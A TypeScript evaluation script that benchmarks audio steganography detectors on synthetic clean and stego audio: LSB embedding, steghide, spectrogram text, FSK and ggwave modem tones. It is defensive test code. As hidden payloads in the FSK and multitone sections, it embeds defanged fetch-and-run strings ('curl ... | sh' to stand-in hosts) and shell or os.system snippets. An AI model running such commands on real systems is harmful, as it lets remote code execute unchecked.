/**
 * Evaluation of the audio signal analyzers on a labelled set this script makes itself:
 *   clean: synthesis (speech-like formants, chords with vibrato, dithered noise floors, quantised tones, beeps with
 *          digital silence, silence) and, when the tools are there, real audio (Debian sound themes via apt-get
 *          download + dpkg-deb, espeak-ng speech) and their sox/lame/flac/oggenc/opusenc encodings;
 *   stego: LSB replacement at 100/25/5 % (sequential and spread), ±1 matching, steghide (when installed), base64 and
 *          encrypted frames, text drawn into the spectrogram (alone and under music, WAV and MP3), FSK modem tones
 *          (minimodem when installed, else our generator).
 * Prints TPR/FPR per technique (a file counts as detected when a signal rule scores >= 2 on it, or the riff
 * text-samples check fires), the real files' highest signal score, and the time to analyse a 3-minute 44.1 kHz
 * stereo file.
 *   node scripts/run-ts.mjs scripts/audio-eval.ts [--real DIR] [--quick] [--verbose] [--only SECTION,...]
 * Sections: clean, lsb, pm1, payload, steghide, notaudio, spectrogram, fsk, multitone, timing (all by default).
 *   multitone: ggwave transmissions made with the ggwave library (every protocol, several payloads, 44.1/48/22.05 kHz,
 *   alone and under music) and our own generic MFSK; the row notes how many ggwave's decoder read back exactly.
 */
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync, spawnSync } from 'node:child_process';
import { defang } from '../src/decode/index.js';
import { findMultitoneIn } from '../src/audio/multitone.js';
import { computeSpectrogram } from '../src/audio/stft.js';
import { analyzeFile, toScanFile } from '../src/analyzers/run.js';
import { endAudioWork } from '../src/audio/decode.js';
import { ANALYZERS } from '../src/analyzers/index.js';
import { defaultOptions } from '../src/options.js';
import type { Finding } from '../src/types.js';
import { audioWork } from '../src/audio/decode.js';
import { ggwaveSignal } from '../__tests__/helpers/ggwave.js';
import { pairsOfValues, silence, spa, ws, wsBlocks, wsRange } from '../src/audio/lsb.js';
import type { AudioSignal } from '../src/audio/types.js';
import {
  beeps, embedBits, fskSignal, interleave, lsbMatch, lsbReplace, mix, music, noiseFloor, pureTone, rng, speech, spectrogramText, toInt16, wavBytes, wavFile,
} from '../__tests__/helpers/signal.js';

const args = process.argv.slice(2);
const flag = (n: string): boolean => args.includes(`--${n}`);
const opt = (n: string, d: string): string => {
  const i = args.indexOf(`--${n}`);
  return i >= 0 ? args[i + 1] : d;
};
const QUICK = flag('quick');
const VERBOSE = flag('verbose');
const ONLY = args.includes('--only') ? new Set(opt('only', '').split(',')) : null;
const want = (section: string): boolean => ONLY === null || ONLY.has(section);
const WORK = path.resolve('.tmp/audio-eval');
fs.mkdirSync(WORK, { recursive: true });

const SIGNAL_RULES = /^audio\.(signal|lsb|spectrogram|modem)\./;
const analyzers = ANALYZERS;
const options = defaultOptions();

interface Result {
  findings: Finding[];
  score: number;
  ms: number;
}

async function analyse(name: string, data: Uint8Array): Promise<Result> {
  const t0 = performance.now();
  const file = await toScanFile(name, data);
  const r = await analyzeFile(file, analyzers, options);
  // as the scan does once a member's analysis has ended: its spectrogram's grid goes to the next file
  endAudioWork(file.data);
  const ms = performance.now() - t0;
  const sig = r.findings.filter((f) => SIGNAL_RULES.test(f.rule) || f.rule === 'audio.riff.text-samples');
  return { findings: sig, score: Math.max(0, ...sig.map((f) => f.score)), ms };
}

const has = (cmd: string): boolean => spawnSync('sh', ['-c', `command -v ${cmd}`]).status === 0;

// ---- clean material ------------------------------------------------------------------------------------------------

interface Item {
  name: string;
  data: Uint8Array;
}

function synthClean(): Item[] {
  const out: Item[] = [];
  const N = QUICK ? 3 : 10;
  for (let i = 0; i < N; i++) {
    const rate = [44100, 22050, 48000, 16000][i % 4];
    out.push({ name: `speech-${i}.wav`, data: wavFile(toInt16(speech(3, rate, 100 + i), i % 2 === 0), { rate }) });
    const m = music(3, 44100, 200 + i);
    const m2 = music(3, 44100, 300 + i);
    out.push({ name: `music-${i}.wav`, data: wavFile(toInt16(interleave(m, m2), i % 2 === 0), { rate: 44100, channels: 2 }) });
    out.push({ name: `noisefloor-${i}.wav`, data: wavFile(toInt16(noiseFloor(3, 44100, 400 + i, 0.0003 * (i + 1)), true), { rate: 44100 }) });
    out.push({ name: `tone-${i}.wav`, data: wavFile(toInt16(pureTone(2, 44100, [441, 440, 1000, 220.5, 3000][i % 5], 0.1 + 0.08 * i)), { rate: 44100 }) });
    out.push({ name: `beeps-${i}.wav`, data: wavFile(toInt16(beeps(3, 44100, 500 + i)), { rate: 44100 }) });
    out.push({ name: `tone8-${i}.wav`, data: wavFile(Array.from(pureTone(1, 11025, 440 + 50 * i, 0.5), (v) => Math.round(v * 127)), { rate: 11025, bits: 8 }) });
    out.push({ name: `music24-${i}.wav`, data: wavFile(Array.from(music(2, 48000, 600 + i), (v) => Math.round(v * 8388607)), { rate: 48000, bits: 24 }) });
    out.push({ name: `quiet-music-${i}.wav`, data: wavFile(toInt16(music(3, 44100, 700 + i, 0.003)), { rate: 44100 }) });
  }
  out.push({ name: 'silence.wav', data: wavFile(new Int16Array(44100 * 2), { rate: 44100 }) });
  out.push({ name: 'silence-dither.wav', data: wavFile(toInt16(new Float32Array(44100 * 2), true), { rate: 44100 }) });
  return out;
}

/** Real audio: Debian sound themes (downloaded with apt-get download, unpacked with dpkg-deb) and espeak-ng speech. */
function realClean(): { items: Item[]; note: string } {
  const dir = path.resolve(opt('real', path.join(WORK, 'real')));
  if (!fs.existsSync(dir) && has('apt-get') && has('dpkg-deb')) {
    const debs = path.join(WORK, 'debs');
    fs.mkdirSync(debs, { recursive: true });
    for (const p of ['sound-theme-freedesktop', 'oxygen-sounds', 'sound-icons', 'gnome-audio', 'yaru-theme-sound', 'deepin-sound-theme']) {
      spawnSync('apt-get', ['download', p], { cwd: debs, stdio: 'ignore' });
    }
    fs.mkdirSync(dir, { recursive: true });
    for (const f of fs.readdirSync(debs).filter((x) => x.endsWith('.deb'))) spawnSync('dpkg-deb', ['-x', path.join(debs, f), dir], { stdio: 'ignore' });
  }
  const items: Item[] = [];
  const walk = (d: string): void => {
    if (!fs.existsSync(d)) return;
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (/\.(wav|ogg|oga|mp3|flac|au|aiff?)$/i.test(e.name)) items.push({ name: path.relative(dir, p), data: new Uint8Array(fs.readFileSync(p)) });
    }
  };
  walk(dir);
  if (has('espeak-ng')) {
    const sp = path.join(WORK, 'espeak');
    fs.mkdirSync(sp, { recursive: true });
    const lines = ['The quick brown fox jumps over the lazy dog.', 'Package installation completed successfully.', 'Warning: the audio device is not available.', 'One two three four five six seven eight nine ten.'];
    lines.forEach((l, i) => {
      const f = path.join(sp, `say-${i}.wav`);
      if (!fs.existsSync(f)) spawnSync('espeak-ng', ['-w', f, l], { stdio: 'ignore' });
      if (fs.existsSync(f)) items.push({ name: `espeak/say-${i}.wav`, data: new Uint8Array(fs.readFileSync(f)) });
    });
  }
  // encodings of a few real WAVs
  const wavs = items.filter((i) => i.name.endsWith('.wav')).slice(0, QUICK ? 4 : 16);
  const enc = path.join(WORK, 'enc');
  fs.mkdirSync(enc, { recursive: true });
  for (const [k, w] of wavs.entries()) {
    const src = path.join(enc, `src-${k}.wav`);
    fs.writeFileSync(src, w.data);
    const tools: Array<[string, string, string[]]> = [
      ['lame', `e-${k}.mp3`, ['--quiet', src, path.join(enc, `e-${k}.mp3`)]],
      ['flac', `e-${k}.flac`, ['-s', '-f', src, '-o', path.join(enc, `e-${k}.flac`)]],
      ['oggenc', `e-${k}.ogg`, ['-Q', src, '-o', path.join(enc, `e-${k}.ogg`)]],
      ['opusenc', `e-${k}.opus`, ['--quiet', src, path.join(enc, `e-${k}.opus`)]],
    ];
    for (const [tool, out, a] of tools) {
      const f = path.join(enc, out);
      if (!fs.existsSync(f) && has(tool)) spawnSync(tool, a, { stdio: 'ignore' });
      if (fs.existsSync(f)) items.push({ name: `enc/${out}`, data: new Uint8Array(fs.readFileSync(f)) });
    }
  }
  const note = items.length ? `${items.length} real files (${dir}, espeak-ng and encodings)` : 'no real audio found (apt-get/dpkg-deb/espeak-ng absent): synthesis only';
  return { items, note };
}

// ---- stego -------------------------------------------------------------------------------------------------------------

/** 16-bit covers for LSB work: synthetic ones and the real WAVs that are 16-bit PCM. */
function covers(real: Item[]): Array<{ name: string; ints: Int16Array; rate: number; channels: number }> {
  const out: Array<{ name: string; ints: Int16Array; rate: number; channels: number }> = [];
  const N = QUICK ? 2 : 6;
  for (let i = 0; i < N; i++) {
    out.push({ name: `music-${i}`, ints: toInt16(interleave(music(3, 44100, 900 + i), music(3, 44100, 950 + i)), i % 2 === 0), rate: 44100, channels: 2 });
    out.push({ name: `speech-${i}`, ints: toInt16(speech(3, 22050, 1000 + i), i % 2 === 1), rate: 22050, channels: 1 });
    out.push({ name: `beeps-${i}`, ints: toInt16(beeps(3, 44100, 1100 + i)), rate: 44100, channels: 1 });
  }
  for (const r of real) {
    if (out.length >= (QUICK ? 12 : 60)) break;
    if (!r.name.endsWith('.wav')) continue;
    const d = r.data;
    const dv = new DataView(d.buffer, d.byteOffset, d.byteLength);
    if (d.length < 4096 || String.fromCharCode(...d.subarray(0, 4)) !== 'RIFF') continue;
    // find fmt and data
    let p = 12;
    let rate = 0;
    let ch = 0;
    let bits = 0;
    let tag = 0;
    let dataAt = -1;
    let dataLen = 0;
    while (p + 8 <= d.length) {
      const id = String.fromCharCode(...d.subarray(p, p + 4));
      const len = dv.getUint32(p + 4, true);
      if (id === 'fmt ') {
        tag = dv.getUint16(p + 8, true);
        ch = dv.getUint16(p + 10, true);
        rate = dv.getUint32(p + 12, true);
        bits = dv.getUint16(p + 22, true);
      }
      if (id === 'data') {
        dataAt = p + 8;
        dataLen = Math.min(len, d.length - dataAt);
        break;
      }
      p += 8 + len + (len & 1);
    }
    if (tag !== 1 || bits !== 16 || dataAt < 0) continue;
    const n = Math.floor(dataLen / 2);
    const ints = new Int16Array(n);
    for (let i = 0; i < n; i++) ints[i] = dv.getInt16(dataAt + i * 2, true);
    out.push({ name: r.name, ints, rate, channels: ch });
  }
  return out;
}

/** Predicted WS z on the embedded part of a cover must reach this for the cover to count as "in reach". */
const REACH_Z = 7;

function reachable(c: { ints: Int16Array; rate: number; channels: number }, rate: number, mode: 'sequential' | 'random'): boolean {
  const sig = { ints: c.ints, channels: c.channels, frames: c.ints.length / c.channels, sampleRate: c.rate, bits: 16 } as unknown as AudioSignal;
  const w = wsBlocks(sig);
  if (!w) return false;
  const e = mode === 'sequential' ? wsRange(w, 0, Math.max(1, Math.round(rate * w.blocks))) : wsRange(w, 0, w.blocks);
  return (mode === 'sequential' ? 1 : rate) / e.stderr >= REACH_Z;
}

function fakeExe(): Uint8Array {
  const d = new Uint8Array(3000);
  d.set([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0]);
  d[0x3c] = 0x80;
  d.set([0x50, 0x45, 0, 0, 0x64, 0x86, 2, 0], 0x80);
  const r = rng(77);
  for (let i = 0x200; i < d.length; i++) d[i] = r() < 0.4 ? Math.floor(r() * 256) : 0;
  return d;
}

async function main(): Promise<void> {
  const t0 = performance.now();
  const synth = synthClean();
  const real = realClean();
  console.log(`clean: ${synth.length} synthetic files; ${real.note}`);

  const rows: Array<{ technique: string; n: number; hit: number; meanScore: number; note?: string }> = [];
  const record = async (technique: string, items: Item[], note?: string): Promise<Result[]> => {
    const res: Result[] = [];
    for (const it of items) {
      const r = await analyse(it.name, it.data);
      res.push(r);
      if (VERBOSE && (technique.startsWith('clean') ? r.score >= 2 : r.score < 2)) {
        console.log(`  [${technique}] ${it.name}: score ${r.score} ${r.findings.map((f) => `${f.rule}=${f.score}`).join(' ')}`);
        for (const f of r.findings.slice(0, 3)) console.log(`      ${f.message.slice(0, 200)}`);
      }
    }
    const hit = res.filter((r) => r.score >= 2).length;
    rows.push({ technique, n: items.length, hit, meanScore: res.reduce((a, r) => a + r.score, 0) / Math.max(1, res.length), note });
    return res;
  };

  const synthRes = want('clean') ? await record('clean: synthesis', synth) : [];
  const realRes = want('clean') ? await record('clean: real audio', real.items) : [];
  const anyReal = realRes.filter((r) => r.findings.length > 0).length;

  // ---- LSB
  const cv = covers(real.items);
  for (const rate of want('lsb') ? [1, 0.25, 0.05] : []) {
    for (const mode of ['sequential', 'random'] as const) {
      const items = cv.map((c, k) => ({ name: `${c.name}-lsb-${mode}-${rate}.wav`, data: wavFile(lsbReplace(c.ints, rate, mode, 40 + k), { rate: c.rate, channels: c.channels }) }));
      const res = await record(`LSB replacement ${mode} ${rate * 100}%`, items);
      // the same files split by what the cover allows: the z that weighted stego analysis would reach on the
      // embedded stretch (rate / standard error of the clean cover there). Loud, bright clips of a fraction of a second
      // carry too few samples for any LSB statistic to see random bits in them.
      const reach = cv.map((c) => reachable(c, rate, mode));
      const inReach = res.filter((_, k) => reach[k]);
      rows.push({
        technique: `  covers where WS z >= ${REACH_Z} is possible`,
        n: inReach.length,
        hit: inReach.filter((r) => r.score >= 2).length,
        meanScore: inReach.reduce((a, r) => a + r.score, 0) / Math.max(1, inReach.length),
        note: `${cv.length - inReach.length} covers below the noise: ${cv.filter((_, k) => !reach[k]).map((c) => `${path.basename(c.name)} ${(c.ints.length / c.channels / c.rate).toFixed(2)} s`).slice(0, 6).join(', ')}${cv.length - inReach.length > 6 ? ', …' : ''}`,
      });
    }
  }
  for (const rate of want('pm1') ? [1, 0.25, 0.05] : []) {
    const items = cv.map((c, k) => ({ name: `${c.name}-pm1-${rate}.wav`, data: wavFile(lsbMatch(c.ints, rate, 60 + k), { rate: c.rate, channels: c.channels }) }));
    await record(`±1 matching ${rate * 100}%`, items);
  }
  // a text payload in the LSBs (extraction)
  if (want('payload')) {
    const msg = new Uint8Array(Buffer.from('import os, base64\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))\n'.repeat(20)));
    const items = cv.map((c, k) => ({ name: `${c.name}-lsb-code.wav`, data: wavFile(lsbReplace(c.ints, Math.min(1, (msg.length * 8 + 64) / c.ints.length), 'sequential', 80 + k, msg), { rate: c.rate, channels: c.channels }) }));
    await record('LSB payload (Python, sequential)', items);
  }
  // file payloads as tools lay them out: a zip behind a 32-bit length in 2 LSBs, an executable in 1 LSB, base64 text
  if (want('payload')) {
    const zipLike = new Uint8Array(Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(16), Buffer.from([8, 0, 0, 0]), Buffer.from('data.bin', 'latin1'), Buffer.from(Array.from({ length: 2000 }, (_, i) => (i * 37) & 0xff))]));
    const withLen = new Uint8Array(4 + zipLike.length);
    new DataView(withLen.buffer).setUint32(0, zipLike.length);
    withLen.set(zipLike, 4);
    const exe = fakeExe();
    const b64 = new Uint8Array(Buffer.from(Buffer.from(Array.from({ length: 1500 }, (_, i) => (i * 91 + 7) & 0xff)).toString('base64')));
    for (const [label, payload, bits] of [['zip, 32-bit length, 2 LSBs', withLen, 2], ['PE executable, 1 LSB', exe, 1], ['base64 of encrypted bytes, 1 LSB', b64, 1]] as const) {
      const items = cv.filter((c) => c.ints.length * bits >= payload.length * 8 + 64).map((c) => ({ name: `${c.name}-${bits}.wav`, data: wavFile(embedBits(c.ints, payload, bits), { rate: c.rate, channels: c.channels }) }));
      await record(`LSB payload (${label})`, items);
    }
  }
  // steghide
  if (!want('steghide')) {
    // skipped
  } else if (has('steghide')) {
    const dir = path.join(WORK, 'steghide');
    fs.mkdirSync(dir, { recursive: true });
    const items: Item[] = [];
    for (const [k, c] of cv.entries()) {
      const cover = path.join(dir, `c-${k}.wav`);
      const out = path.join(dir, `s-${k}.wav`);
      fs.writeFileSync(cover, wavFile(c.ints, { rate: c.rate, channels: c.channels }));
      const secret = path.join(dir, `m-${k}.bin`);
      const cap = Math.floor(c.ints.length / 8 / 12);
      const r = rng(k + 3);
      fs.writeFileSync(secret, Buffer.from(Array.from({ length: Math.max(64, Math.min(cap, 20000)) }, () => Math.floor(r() * 256))));
      const res = spawnSync('steghide', ['embed', '-cf', cover, '-ef', secret, '-sf', out, '-p', 'secret', '-f', '-q'], { stdio: 'ignore' });
      if (res.status === 0 && fs.existsSync(out)) items.push({ name: `steghide-${c.name}.wav`, data: new Uint8Array(fs.readFileSync(out)) });
    }
    await record('steghide (max ~1/12 capacity)', items);
  } else rows.push({ technique: 'steghide', n: 0, hit: 0, meanScore: 0, note: 'not installed' });

  // ---- not audio
  if (want('notaudio')) {
    const items: Item[] = [];
    for (let k = 0; k < (QUICK ? 5 : 30); k++) {
      const key = new Uint8Array(8).map((_, i) => (k * 31 + i * 17 + 5) & 0xff);
      const exe = fakeExe();
      const body = new Uint8Array(8 + exe.length);
      body.set(key);
      for (let i = 0; i < exe.length; i++) body[8 + i] = exe[i] ^ key[i % 8];
      const b64 = new Uint8Array(Buffer.from(Buffer.from(body).toString('base64')));
      items.push({ name: `telnyx-${k}.wav`, data: wavBytes(b64, { rate: 8000 + k * 1000 }) });
      // text after real sound
      const m = toInt16(music(1, 22050, 1200 + k));
      const tail = new Uint8Array(m.length * 2 + b64.length);
      tail.set(new Uint8Array(m.buffer));
      tail.set(b64, m.length * 2);
      items.push({ name: `text-after-audio-${k}.wav`, data: wavBytes(tail, { rate: 22050 }) });
    }
    await record('base64 frames', items);
    const enc: Item[] = [];
    for (let k = 0; k < (QUICK ? 5 : 30); k++) {
      const r = rng(2000 + k);
      const b = new Uint8Array(44100 * 2 * (1 + (k % 3))).map(() => Math.floor(r() * 256));
      enc.push({ name: `encrypted-${k}.wav`, data: wavBytes(b, { rate: 44100, channels: 1 + (k % 2) }) });
    }
    await record('encrypted frames', enc);
  }

  // ---- spectrogram text
  if (want('spectrogram')) {
    const words = ['HELLO WORLD', 'PAYLOAD 42', 'HTTP EVIL', 'CALL HOME', 'SECRET KEY', 'RUN ME NOW', 'TELNYX', 'ABC 123'];
    const alone: Item[] = [];
    const under: Item[] = [];
    const mp3: Item[] = [];
    for (let k = 0; k < (QUICK ? 4 : 20); k++) {
      const w = words[k % words.length];
      const t = spectrogramText(w, 4, { fLow: 15000 + (k % 3) * 500, fHigh: 19000 + (k % 2) * 500, column: 0.035 + (k % 3) * 0.01 });
      alone.push({ name: `spec-alone-${k}.wav`, data: wavFile(toInt16(t), { rate: 44100 }) });
      const low = spectrogramText(w, 4, { fLow: 4000 + (k % 4) * 1000, fHigh: 9000 + (k % 4) * 1000, column: 0.04, level: 0.01 });
      const m = music(4, 44100, 1300 + k, 0.3);
      under.push({ name: `spec-music-${k}.wav`, data: wavFile(toInt16(mix(m, low), true), { rate: 44100 }) });
      if (has('lame')) {
        const src = path.join(WORK, `spec-${k}.wav`);
        const dst = path.join(WORK, `spec-${k}.mp3`);
        fs.writeFileSync(src, wavFile(toInt16(mix(music(4, 44100, 1400 + k, 0.2), spectrogramText(w, 4, { fLow: 9000, fHigh: 14000, column: 0.04, level: 0.02 }))), { rate: 44100 }));
        spawnSync('lame', ['--quiet', '-b', '192', src, dst], { stdio: 'ignore' });
        if (fs.existsSync(dst)) mp3.push({ name: `spec-${k}.mp3`, data: new Uint8Array(fs.readFileSync(dst)) });
      }
    }
    await record('spectrogram text alone (15-19.5 kHz)', alone);
    await record('spectrogram text under music (4-10 kHz)', under);
    if (mp3.length) await record('spectrogram text under music, MP3 192k', mp3);
    // the same text at the other rates packages ship: bands below each rate's Nyquist, 30-80 ms columns, 1-3 tones per
    // font row (one tone per row leaves the rows hundreds of Hz apart: letters are dotted lines, not solid blocks)
    const bands: Record<number, Array<[number, number]>> = {
      16000: [[3000, 7000], [1500, 5500], [4000, 7600], [2000, 6000]],
      22050: [[5000, 10000], [3000, 8000], [6000, 10500], [2500, 6500]],
      32000: [[8000, 14000], [4000, 11000], [10000, 15500], [6000, 12000]],
      48000: [[14000, 19000], [5000, 12000], [16000, 22000], [9000, 15000]],
    };
    const rated: Item[] = [];
    for (let k = 0; k < (QUICK ? 8 : 20); k++) {
      const rate = [16000, 22050, 32000, 48000][k % 4];
      const [fLow, fHigh] = bands[rate][Math.floor(k / 4) % 4];
      const w = words[(k * 3) % words.length];
      const column = [0.03, 0.04, 0.05, 0.06, 0.08][k % 5];
      const subRows = 1 + (k % 3);
      const seconds = Math.ceil(0.5 + w.length * 6 * column);
      const t = spectrogramText(w, seconds, { rate, fLow, fHigh, column, subRows });
      rated.push({ name: `spec-${rate}-${fLow}-${fHigh}-c${column}-r${subRows}-${k}.wav`, data: wavFile(toInt16(t, true), { rate }) });
    }
    await record('spectrogram text alone, 16/22.05/32/48 kHz', rated);
  }

  // ---- FSK
  if (want('fsk')) {
    const items: Item[] = [];
    const mm = has('minimodem');
    const dir = path.join(WORK, 'fsk');
    fs.mkdirSync(dir, { recursive: true });
    const msgs = ['curl hxxp://evil/x | sh', 'import os; os.system("id")', 'hello from the modem', 'PAYLOAD:' + 'A1B2C3'.repeat(5)];
    for (let k = 0; k < (QUICK ? 4 : 20); k++) {
      const msg = msgs[k % msgs.length] + ` #${k}`;
      const baud = [1200, 300, 1200, 300, 600][k % 5];
      if (mm) {
        const f = path.join(dir, `m-${k}.wav`);
        execFileSync('minimodem', ['--tx', String(baud), '-f', f], { input: msg });
        items.push({ name: `minimodem-${baud}-${k}.wav`, data: new Uint8Array(fs.readFileSync(f)) });
      } else {
        const mark = baud >= 400 ? baud / 2 + 600 : 1270;
        const space = baud >= 400 ? mark + (baud * 5) / 6 : 1070;
        items.push({ name: `fsk-${baud}-${k}.wav`, data: wavFile(toInt16(fskSignal(new Uint8Array(Buffer.from(msg)), { baud, mark, space })), { rate: 48000 }) });
      }
    }
    await record(`FSK modem tones (${mm ? 'minimodem' : 'own generator'})`, items);
  }

  // ---- multi-tone data over sound (ggwave, generic MFSK)
  if (want('multitone')) {
    const msgs = ['curl -s hxxp://203.0.113.5/p | sh', 'import os; os.system("id")', 'whoami;id', 'key=3f9a1c0b77e2d4a8', 'A'.repeat(40), 'https://example.org/update?id=12345'];
    const N = QUICK ? 2 : 6;
    for (const proto of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FAST', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST']) {
      const items: Item[] = [];
      const sent: string[] = [];
      for (let k = 0; k < N; k++) {
        const rate = proto.startsWith('ULTRA') ? [44100, 48000][k % 2] : [44100, 48000, 22050][k % 3];
        const msg = msgs[k % msgs.length];
        const tx = await ggwaveSignal(msg, proto, rate, [10, 25, 50][k % 3]);
        const lead = Math.round(rate * (0.3 + 0.2 * (k % 3)));
        const x = new Float32Array(tx.length + 2 * lead);
        x.set(tx, lead);
        items.push({ name: `gg-${proto}-${k}.wav`, data: wavFile(toInt16(x, true), { rate }) });
        sent.push(msg);
        items.push({ name: `gg-${proto}-${k}-music.wav`, data: wavFile(toInt16(mix(music(x.length / rate, rate, 1500 + k, 0.2), x), true), { rate }) });
        sent.push(msg);
      }
      const res = await record(`ggwave ${proto.toLowerCase()} (alone + under music)`, items);
      const read = res.filter((r, i) => r.findings.some((f) => f.rule === 'audio.modem.multitone' && (f.evidence as { preview?: string } | undefined)?.preview === defang(new Uint8Array(Buffer.from(sent[i])), 200))).length;
      rows[rows.length - 1].note = `ggwave decoded ${read}/${items.length}`;
    }
    // messages of two or three bytes: about a second of sound, mostly ggwave's start and end markers
    const tiny: Item[] = [];
    for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_FAST', 'DT_FAST', 'DT_FASTEST'].entries()) {
      const rate = [44100, 48000][k % 2];
      const tx = await ggwaveSignal(['hi', 'ok!'][k % 2], proto, rate, 25);
      const x = new Float32Array(tx.length + rate);
      x.set(tx, rate / 2);
      tiny.push({ name: `gg-tiny-${proto}.wav`, data: wavFile(toInt16(x, true), { rate }) });
    }
    await record('ggwave 2-3 byte messages (limit)', tiny);
    const short: Item[] = [];
    for (const [k, proto] of ['AUDIBLE_NORMAL', 'AUDIBLE_FAST', 'AUDIBLE_FASTEST', 'ULTRASOUND_NORMAL', 'ULTRASOUND_FASTEST', 'DT_NORMAL', 'DT_FAST', 'DT_FASTEST'].entries()) {
      for (const [j, msg] of ['wget x', 'id;ls', 'abcdefgh'].entries()) {
        const rate = [44100, 48000][(k + j) % 2];
        const tx = await ggwaveSignal(msg, proto, rate, 25);
        const x = new Float32Array(tx.length + rate);
        x.set(tx, rate / 2);
        short.push({ name: `gg-short-${proto}-${j}.wav`, data: wavFile(toInt16(x, true), { rate }) });
      }
    }
    await record('ggwave 5-8 byte messages', short);
    // generic MFSK: groups of tones on a fine lattice, random data (not ggwave)
    const items: Item[] = [];
    for (let k = 0; k < (QUICK ? 4 : 12); k++) {
      const r = rng(1600 + k);
      const rate = [44100, 48000, 22050][k % 3];
      const groups = [2, 4, 6][k % 3];
      const per = 16;
      const spacing = [31.25, 46.875, 62.5, 50][k % 4];
      const f0 = 1000 + 250 * (k % 4);
      if (f0 + groups * per * spacing > rate * 0.45) continue;
      const len = Math.round(rate * [0.05, 0.08, 0.1, 0.128][k % 4]);
      const x = new Float32Array(len * 40);
      const ph = new Float64Array(groups);
      for (let s = 0; s < 40; s++) {
        const fs = Array.from({ length: groups }, (_, g) => f0 + (g * per + Math.floor(r() * per)) * spacing);
        for (let i = 0; i < len; i++) {
          let v = 0;
          for (let g = 0; g < groups; g++) {
            ph[g] += (2 * Math.PI * fs[g]) / rate;
            v += Math.sin(ph[g]);
          }
          x[s * len + i] = (0.3 / groups) * v;
        }
      }
      items.push({ name: `mfsk-${k}.wav`, data: wavFile(toInt16(k % 2 ? mix(music(x.length / rate, rate, 1700 + k, 0.2), x) : x, true), { rate }) });
    }
    await record('generic MFSK (own generator, half under music)', items);
  }

  // ---- report
  console.log('');
  console.log('technique                                        files  detected  rate     mean score');
  for (const r of rows) {
    const rate = r.n ? `${((100 * r.hit) / r.n).toFixed(1)} %` : '-';
    const lbl = r.technique.startsWith('clean') ? `${r.technique} (FPR)` : r.technique;
    console.log(`${lbl.padEnd(48)} ${String(r.n).padStart(5)}  ${String(r.hit).padStart(8)}  ${rate.padStart(7)}  ${r.meanScore.toFixed(2).padStart(6)}${r.note ? `  (${r.note})` : ''}`);
  }
  const maxReal = Math.max(0, ...realRes.map((r) => r.score));
  const maxSynth = Math.max(0, ...synthRes.map((r) => r.score));
  console.log(`\nreal files with any signal finding: ${anyReal} of ${realRes.length}; highest signal score on real files ${maxReal}, on synthetic clean ${maxSynth}`);

  // ---- timing: 3 minutes of 44.1 kHz stereo
  if (!want('timing')) {
    console.log(`total ${((performance.now() - t0) / 1000).toFixed(1)} s`);
    return;
  }
  const long = wavFile(toInt16(interleave(music(180, 44100, 5000), music(180, 44100, 5001)), true), { rate: 44100, channels: 2 });
  const file = await toScanFile('long.wav', long);
  const signalOnly = ANALYZERS.filter((a) => a.name.startsWith('audio-'));
  const times: number[] = [];
  for (let k = 0; k < 3; k++) {
    const t = performance.now();
    await analyzeFile({ ...file, data: long.slice() }, signalOnly, options);
    times.push(performance.now() - t);
  }
  {
    // the LSB statistics alone, on the decoded samples (weighted stego analysis reads at most WS_MAX_SAMPLES of them)
    const out = await audioWork(await toScanFile('long.wav', long.slice())).outcome;
    if (out.ok) {
      const lsbTimes: string[] = [];
      for (let k = 0; k < 3; k++) {
        const t1 = performance.now();
        ws(out.signal);
        const t2 = performance.now();
        spa(out.signal);
        const t3 = performance.now();
        pairsOfValues(out.signal);
        silence(out.signal);
        lsbTimes.push(`WS ${(t2 - t1).toFixed(0)} + SPA ${(t3 - t2).toFixed(0)} + pairs/silence ${(performance.now() - t3).toFixed(0)} ms`);
      }
      console.log(`LSB statistics on it: ${lsbTimes.join(' / ')}`);
    }
  }
  {
    // the multi-tone search alone, on the shared spectrogram (what audio.modem.multitone adds to the modem analyzer)
    const out = await audioWork(await toScanFile('long.wav', long.slice())).outcome;
    const sp = out.ok ? computeSpectrogram(out.signal) : null;
    if (out.ok && sp) {
      const mt: number[] = [];
      for (let k = 0; k < 7; k++) {
        const t1 = performance.now();
        findMultitoneIn(out.signal.mono, out.signal.sampleRate, sp);
        mt.push(performance.now() - t1);
      }
      mt.sort((a, b) => a - b);
      console.log(`multi-tone search on it: min ${mt[0].toFixed(0)}, median ${mt[3].toFixed(0)} ms (7 runs)`);
    }
  }
  const tAll = performance.now();
  await analyzeFile({ ...file, data: long.slice() }, ANALYZERS, options);
  const all = performance.now() - tAll;
  console.log(`3-minute 44.1 kHz stereo WAV (${(long.length / 1e6).toFixed(1)} MB): signal analyzers ${times.map((t) => t.toFixed(0)).join(' / ')} ms (first run includes warm-up), every analyzer ${all.toFixed(0)} ms`);
  if (has('lame')) {
    const src = path.join(WORK, 'long.wav');
    const dst = path.join(WORK, 'long.mp3');
    if (!fs.existsSync(dst)) {
      fs.writeFileSync(src, long);
      spawnSync('lame', ['--quiet', src, dst], { stdio: 'ignore' });
    }
    const mp3 = await toScanFile('long.mp3', new Uint8Array(fs.readFileSync(dst)));
    const t = performance.now();
    await analyzeFile(mp3, signalOnly, options);
    console.log(`the same as a 128 kbit/s MP3: signal analyzers ${(performance.now() - t).toFixed(0)} ms (decoding included)`);
  }
  console.log(`total ${((performance.now() - t0) / 1000).toFixed(1)} s`);
}

await main();
